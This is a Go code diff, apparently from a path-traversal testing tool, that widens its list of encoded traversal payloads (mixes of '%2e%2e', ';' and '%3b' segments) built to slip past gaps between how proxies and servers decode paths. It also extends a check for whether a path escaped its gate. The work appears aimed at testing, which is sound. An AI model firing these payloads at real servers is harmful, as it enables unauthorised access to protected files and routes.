@@ -17,7 +17,7 @@ func opened(target string) bool {
 	if parsed, err := url.Parse(target); err == nil && parsed.IsAbs() {
 		text = parsed.EscapedPath()
 	}
-	for _, decoded := range []string{text, unescaped(text), parameter.ReplaceAllString(text, "")} {
+	for _, decoded := range []string{text, unescaped(text), withoutParameters(text), withoutParameters(unescaped(text))} {
 		resolved := path.Clean("/" + strings.ReplaceAll(decoded, `\`, "/"))
 		if strings.HasSuffix(decoded, "/") && resolved != "/" {
 			resolved += "/"
@@ -30,6 +30,8 @@ func opened(target string) bool {
 }
 
 var parameter = regexp.MustCompile(`;[^/]*`)
+
+func withoutParameters(text string) string { return parameter.ReplaceAllString(text, "") }
 
 func unescaped(text string) string {
 	if decoded, err := url.PathUnescape(text); err == nil {
@@ -84,7 +86,13 @@ func parameters(gates []gate) []Attempt {
 
 // encodedParameters are steps up that one proxy decodes, and only the next one takes.
 func encodedParameters(gates []gate) []Attempt {
-	return pathKind(gates, "/open/%2e%2e;/{s}", "/open/.%2e;/{s}", "/open/%2e.;/{s}", "/open/%2E%2E;a=b/{s}", "/open/a/%2e%2e;/%2e%2e;/{s}", "/open/%2e%2e;/../{s}", "/open/%2e%2e;x;y/{s}", "/open/%2e;/%2e%2e;/{s}")
+	return pathKind(gates, "/open/%2e%2e;/{s}", "/open/.%2e;/{s}", "/open/%2e.;/{s}", "/open/%2E%2E;a=b/{s}", "/open/a/%2e%2e;/%2e%2e;/{s}", "/open/%2e%2e;/../{s}", "/open/%2e%2e;x;y/{s}", "/open/%2e;/%2e%2e;/{s}",
+		"/open/%2e%2e;%2f{s}", `/open/a\%2e%2e;/%2e%2e;/{s}`, "/open/;a/%2e%2e;/%2e%2e;/{s}", "/open/%0a/%2e%2e;/%2e%2e;/{s}", "/open/%ff/%2e%2e;/%2e%2e;/{s}", "/open/\xff/%2e%2e;/%2e%2e;/{s}", "/open//%2e%2e;//%2e%2e;/{s}")
+}
+
+// encodedSemicolons are steps up for a server that decodes before it cuts parameters off. No proxy decodes them.
+func encodedSemicolons(gates []gate) []Attempt {
+	return pathKind(gates, "/open/..%3b/{s}", "/open/..%3B/{s}", "/open/%2e%2e%3b/{s}", "/open/.%2e%3Ba=b/{s}", "/open/a/..%3b/..%3B/{s}", "/open/.%3b/..%3b/{s}", "/open/..%3bx%3by/{s}", "/open/..%3B;/{s}")
 }
 
 func controlCharacters(gates []gate) []Attempt {
